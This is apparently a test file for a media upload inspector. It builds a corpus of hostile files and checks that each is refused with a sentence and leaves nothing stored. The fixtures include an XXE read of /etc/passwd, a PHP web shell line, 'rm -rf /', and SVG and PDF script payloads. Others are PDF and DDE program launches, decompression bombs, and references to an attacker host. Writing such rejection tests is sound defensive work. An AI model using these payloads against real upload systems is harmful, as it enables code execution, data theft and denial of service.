import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { db } from '#app/core/database/db.server.ts';
import { openTestDatabase } from '#test/database.ts';
import { inspectBytes } from '#test/inspect-bytes.ts';
import { box, element, makePdf, makePicture, makeSvg, makeVideo, makeWebm } from '#test/media-files.ts';
import { openTestMedia } from '#test/media-storage.ts';
import { makeUploader } from '#test/upload.ts';
import { RefusedFileError } from '../refused-file-error.ts';
import { mediaFiles } from '../tables.server.ts';

openTestDatabase();
const { files } = openTestMedia();

const text = (content: string) => Buffer.from(content);
const concat = (...parts: Uint8Array[]) => Buffer.concat(parts);
const png = () => makePicture().png().toBuffer();
const zip = (names: Record<string, Uint8Array> = { 'a.txt': text('a') }) => Buffer.from(zipSync(names));

function crc32(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}

function chunk(name: string, content: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const named = concat(text(name), content);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(named));
  return concat(length, named, check);
}

/** Makes a small PNG that claims these dimensions, with all pixels the same. */
function pngBomb(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * Math.min(height, 2000)));
  return concat(
    text('\x89PNG\r\n\x1a\n').subarray(0, 0),
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  );
}

const word = {
  '[Content_Types].xml': text(
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  ),
  'word/document.xml': text('<w:document/>'),
};
/** Returns the same archive, with a directory that claims this uncompressed size for its last file. */
function unfolding(archive: Buffer, bytes: number): Buffer {
  archive.writeUInt32LE(bytes, archive.lastIndexOf('PK\x01\x02') + 24);
  return archive;
}

/** Packs objects as newer PDFs do, with the dictionary that describes the packing. */
function objectStream(
  objects: string,
  { filter = '/FlateDecode', pack = deflateSync as (bytes: Buffer) => Buffer } = {},
): Buffer {
  const content = pack(text(`3 0 ${objects}`));
  const dictionary = `<</Type/Obj#53tm/N 1/First 4/Filter${filter}/Length ${content.length}>>`;
  return concat(text('%PDF-1.5\n4 0 obj'), text(`${dictionary}stream\n`), content, text('\nendstream endobj\n%%EOF\n'));
}
const script = '<</S/JavaScript/JS(app.alert(1))>>';

const reference = (type: string, target: string) =>
  text(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="&#69;xternal"/></Relationships>`,
  );
const openDocument = (content: string) =>
  zip({
    mimetype: text('application/vnd.oasis.opendocument.text'),
    'meta.xml': text(`<m xmlns:xlink="x">${content}</m>`),
  });

const laughs = `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`;
const repeats = Array.from({ length: 31 }, (_, level) => `<g id="g${level + 1}"><use href="#g${level}"/></g>`).join('');

const webmHead = element('1a45dfa3', element('4282', text('webm')));

const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>][] = [
  ['nothing', 'empty.png', () => Buffer.alloc(0)],
  ['noise', 'noise.jpg', () => randomBytes(5000)],
  ['a page that says it is a picture', 'a.png', () => text('<!doctype html><script>alert(1)</script>')],
  ['a program', 'a.jpg', () => concat(text('MZ'), randomBytes(2000))],
  ['a Linux program', 'a.mp4', () => concat(text('\x7fELF\x02\x01\x01'), Buffer.alloc(200))],
  ['a script', 'a.pdf', () => text('#!/bin/sh\nrm -rf /\n')],
  ['PHP', 'a.gif', () => text('<?php system($_GET[0]); ?>')],
  ['an archive', 'a.zip', () => zip()],
  ['an archive that says it is a document', 'a.docx', () => zip()],
  ['sound', 'a.mp3', () => concat(text('ID3\x03\0\0\0\0\0\0'), randomBytes(200))],
  ['a GIF that is a script too', 'a.gif', () => text('GIF89a/*AAAA*/=1;alert(document.domain)//')],
  ['a picture cut off', 'a.png', async () => (await png()).subarray(0, 60)],
  ['a picture that unfolds to 900 million pixels', 'bomb.png', () => pngBomb(30_000, 30_000)],
  ['a picture wider than any screen', 'wide.png', () => pngBomb(60_000, 10)],
  ['a picture of four thousand million pixels', 'huge.png', () => pngBomb(65_000, 65_000)],
  ['an SVG with a script', 'a.svg', () => makeSvg('<script>alert(1)</script>')],
  ['an SVG that acts when it is loaded', 'a.svg', () => makeSvg('', 'onload="alert(1)"')],
  ['an SVG that acts in a part', 'a.svg', () => makeSvg('<circle r="1" ONCLICK="alert(1)"/>')],
  [
    'an SVG with a page in it',
    'a.svg',
    () => makeSvg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
  ],
  ['an SVG with a link', 'a.svg', () => makeSvg('<a href="javascript:alert(1)"><circle r="4"/></a>')],
  ['an SVG that loads a picture', 'a.svg', () => makeSvg('<image href="https://evil.example/p.png"/>')],
  ['an SVG that uses another’s part', 'a.svg', () => makeSvg('<use href="https://evil.example/x.svg#a"/>')],
  [
    'an SVG that uses a data address',
    'a.svg',
    () => makeSvg('<use xlink:href="data:image/svg+xml,%3Csvg/%3E#a" xmlns:xlink="http://www.w3.org/1999/xlink"/>'),
  ],
  [
    'an SVG that is animated to a script',
    'a.svg',
    () => makeSvg('<animate attributeName="href" to="javascript:alert(1)"/>'),
  ],
  ['an SVG that sets an address', 'a.svg', () => makeSvg('<set attributeName="href" to="javascript:alert(1)"/>')],
  [
    'an SVG whose style loads something',
    'a.svg',
    () => makeSvg('<style>@import url(https://evil.example/a.css);</style>'),
  ],
  [
    'an SVG whose style hides what it loads',
    'a.svg',
    () => makeSvg('<style>circle{fill:u\\72l(//evil.example/a)}</style>'),
  ],
  [
    'an SVG whose fill is elsewhere',
    'a.svg',
    () => makeSvg('<circle r="4" fill="url(https://evil.example/a.svg#b)"/>'),
  ],
  [
    'an SVG with a stylesheet of another',
    'a.svg',
    () => concat(text('<?xml-stylesheet href="https://evil.example/a.xsl"?>'), makeSvg()),
  ],
  [
    'an SVG with a script in another namespace',
    'a.svg',
    () => makeSvg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
  ],
  ['an SVG with abbreviations that unfold', 'a.svg', () => text(laughs)],
  [
    'an SVG that reads a file',
    'a.svg',
    () =>
      text(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
  ],
  ['an SVG that repeats itself without end', 'a.svg', () => makeSvg(`<g id="g0"><circle r="1"/></g>${repeats}`)],
  ['an SVG deeper than any drawing', 'a.svg', () => makeSvg('<g>'.repeat(200) + '</g>'.repeat(200))],
  ['an SVG that is not closed', 'a.svg', () => text('<svg xmlns="http://www.w3.org/2000/svg"><circle>')],
  ['a PDF with a script', 'a.pdf', () => makePdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF with a script whose name is spelt in codes', 'a.pdf', () => makePdf('/OpenAction<</S/J#61vaScript>>')],
  ['a PDF that starts a program', 'a.pdf', () => makePdf('/OpenAction<</S/Launch/F(calc.exe)>>')],
  ['a PDF that is an archive too', 'a.pdf', () => concat(makePdf(), zip())],
  ['a PDF that is a page too', 'a.pdf', () => concat(makePdf(), text('<html><script>alert(1)</script>'))],
  ['a PDF with a page behind zeros', 'a.pdf', () => concat(makePdf(), Buffer.alloc(600), text('<html>'))],
  ['a page before a PDF', 'a.pdf', () => concat(text('<html><script>alert(1)</script>'), makePdf())],
  ['a PDF cut off', 'a.pdf', () => makePdf().subarray(0, -8)],
  ['a PDF with a form that is a program', 'a.pdf', () => makePdf('/AcroForm<</XFA[(a)5 0 R]>>')],
  ['a PDF with such a form behind a comment', 'a.pdf', () => makePdf('/AcroForm<</X#46A%a\n5%b\n0 R>>')],
  ['a PDF with a script in an object stream', 'a.pdf', () => objectStream(script)],
  [
    'a PDF with a script in an object stream whose checksum is wrong',
    'a.pdf',
    () => objectStream(script, { pack: (bytes) => concat(deflateSync(bytes).subarray(0, -4), Buffer.alloc(4)) }),
  ],
  [
    'a PDF with a script in an object stream that is not packed',
    'a.pdf',
    () => objectStream(script, { pack: (bytes) => bytes }),
  ],
  [
    'a PDF whose object stream is packed otherwise',
    'a.pdf',
    () => objectStream(script, { filter: '/LZWDecode', pack: (bytes) => Buffer.from(bytes.map((byte) => ~byte)) }),
  ],
  ['a PDF whose object stream unfolds without end', 'a.pdf', () => objectStream(' '.repeat(40_000_000))],
  ['a PDF that nobody can read', 'a.pdf', () => makePdf('/Encrypt 5 0 R')],
  [
    'a document with a template elsewhere',
    'a.docx',
    () =>
      zip({ ...word, 'word/_rels/settings.xml.rels': reference('attachedTemplate', 'https://evil.example/a.dotm') }),
  ],
  [
    'a document with a template on another computer',
    'a.docx',
    () => zip({ ...word, 'word/_rels/settings.xml.rels': reference('attachedTemplate', 'file://evil.example/a.dotm') }),
  ],
  [
    'a document with a picture elsewhere',
    'a.docx',
    () => zip({ ...word, 'word/_rels/document.xml.rels': reference('image', 'https://evil.example/a.png') }),
  ],
  [
    'a document that starts a program',
    'a.docx',
    () =>
      zip({
        ...word,
        'word/document.xml': text(
          '<w:d><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:d>',
        ),
      }),
  ],
  [
    'an OpenDocument with a template elsewhere',
    'a.odt',
    () => openDocument('<meta:template xlink:href="https://evil.example/a.ott"/>'),
  ],
  [
    'an OpenDocument with a script',
    'a.odt',
    () => openDocument('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
  ],
  ['a document with macros', 'a.docx', () => zip({ ...word, 'word/vbaProject.bin': text('macro') })],
  ['a document that unfolds without end', 'a.docx', () => unfolding(zip(word), 2_000_000_000)],
  [
    'a document of more files than anybody writes',
    'a.docx',
    () => {
      const pictures = Array.from({ length: 10_000 }, (_, index) => [`word/media/${index}.png`, text('')]);
      return zip({ ...word, ...Object.fromEntries(pictures) });
    },
  ],
  ['a document cut off', 'a.docx', () => zip(word).subarray(0, 200)],
  ['a video without anything in it', 'a.mp4', () => box('ftyp', text('isom\0\0\0\0isommp42'))],
  ['a video cut off', 'a.mp4', () => makeVideo({ bytes: 4000 }).subarray(0, -1000)],
  [
    'a video that is a page',
    'a.mp4',
    () => concat(box('ftyp', text('isom\0\0\0\0isommp42')), text('<html><script>alert(1)</script>')),
  ],
  ['a video with an archive behind it', 'a.mp4', () => concat(makeVideo(), zip())],
  [
    'a video with a PDF in it',
    'a.mp4',
    () => concat(box('ftyp', text('isom\0\0\0\0isom')), box('free', makePdf()), makeVideo()),
  ],
  ['a video with an archive in its last part', 'a.mp4', () => concat(makeVideo(), box('free', zip()))],
  ['a WebM that is a page', 'a.webm', () => concat(webmHead, text('<html><script>alert(1)</script>'))],
  ['a WebM with a page behind it', 'a.webm', () => concat(makeWebm(), text('<html><script>alert(1)</script>'))],
  ['a WebM with an archive behind it', 'a.webm', () => concat(makeWebm({ hasLength: false }), zip())],
  ['a WebM cut off', 'a.webm', () => makeWebm().subarray(0, -100)],
  ['a WebM without anything in it', 'a.webm', () => webmHead],
];

test.each(corpus)('%s is refused with a sentence', async (_what, _name, make) => {
  const refusal = await inspectBytes(await make()).catch((error: unknown) => error);
  expect(refusal).toBeInstanceOf(RefusedFileError);
  expect((refusal as Error).message).toMatch(/^[A-Z][^<>]*(<[\w:]+>)?[^<>]*\.$/);
});

test('of what is refused nothing stays', async () => {
  const { upload } = await makeUploader();
  const before = files();
  for (const bytes of [Buffer.alloc(0), makeSvg('<script>alert(1)</script>'), pngBomb(65_000, 65_000)]) {
    const { status, words, mediaId } = await upload(bytes, 'a.png');
    expect({ status, mediaId }).toEqual({ status: 422, mediaId: '' });
    expect(words).toMatch(/^[A-Z].*\.$/);
  }
  expect(files()).toEqual(before);
  expect(await db.$count(mediaFiles)).toBe(0);
});

test.each([
  ['a PDF that packs its objects', () => objectStream('<</Type/Catalog>>')],
  [
    'a document with links and a template of its own',
    () =>
      zip({
        ...word,
        'word/_rels/document.xml.rels': reference('hyperlink', 'https://example.org/'),
        'word/_rels/settings.xml.rels': reference('attachedTemplate', 'file:///C:\\Users\\ann\\Normal.dotm'),
      }),
  ],
  ['an OpenDocument with a picture of its own', () => openDocument('<draw:image xlink:href="Pictures/a.png"/>')],
])('%s is taken', async (_what, make) => {
  expect(await inspectBytes(make())).toMatchObject({ kind: 'document', isRewritten: false });
});

test('a document that is only that is taken', async () => {
  const { upload } = await makeUploader();
  const { status, words } = await upload(zip(word), 'letter.docx');
  expect(words).toBe('');
  expect(status).toBe(204);
});
